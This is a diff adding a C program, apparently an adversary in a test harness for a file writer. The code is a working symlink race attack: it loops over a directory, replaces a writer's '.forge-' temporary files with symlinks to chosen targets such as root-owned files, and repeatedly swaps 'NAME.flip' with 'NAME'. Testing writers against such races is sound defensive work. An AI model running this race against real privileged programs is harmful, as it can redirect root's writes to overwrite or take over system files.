@@ -1,0 +1,50 @@
+/* Somebody without rights who wants root's files: whatever appears in a directory of theirs becomes a link to one.
+ *
+ * attacker DIRECTORY COUNTS TARGET...
+ * - Entries with `.forge-` in their name, which a writer makes on its way, are moved away and replaced by a link to one of the
+ *   targets, as soon as they are seen.
+ * - Each `NAME.flip` changes places with `NAME`, again and again.
+ * How often either was done is written to COUNTS. It runs until it is killed. */
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <string.h>
+#include <unistd.h>
+
+static long grabbed, flipped;
+
+static void grab(const char *name, const char *target) {
+    char away[400];
+    snprintf(away, sizeof away, ".got-%ld", grabbed);
+    if (rename(name, away) != 0) return;
+    if (symlink(target, name) == 0) grabbed++;
+}
+
+static void flip(const char *name, size_t length) {
+    char plain[300];
+    if (length - 5 >= sizeof plain) return;
+    memcpy(plain, name, length - 5);
+    plain[length - 5] = 0;
+    if (renameat2(AT_FDCWD, name, AT_FDCWD, plain, RENAME_EXCHANGE) == 0) flipped++;
+}
+
+int main(int argc, char **argv) {
+    if (argc < 4 || chdir(argv[1]) != 0) return 1;
+    DIR *here = opendir(".");
+    if (!here) return 1;
+    for (long turn = 0;; turn++) {
+        struct dirent *entry;
+        rewinddir(here);
+        while ((entry = readdir(here))) {
+            const char *name = entry->d_name;
+            size_t length = strlen(name);
+            if (strstr(name, ".forge-") && entry->d_type != DT_LNK) grab(name, argv[3 + grabbed % (argc - 3)]);
+            else if (length > 5 && strcmp(name + length - 5, ".flip") == 0) flip(name, length);
+        }
+        if (turn % 256 == 0) {
+            FILE *counts = fopen(argv[2], "w");
+            if (counts) { fprintf(counts, "%ld %ld\n", grabbed, flipped); fclose(counts); }
+        }
+    }
+}
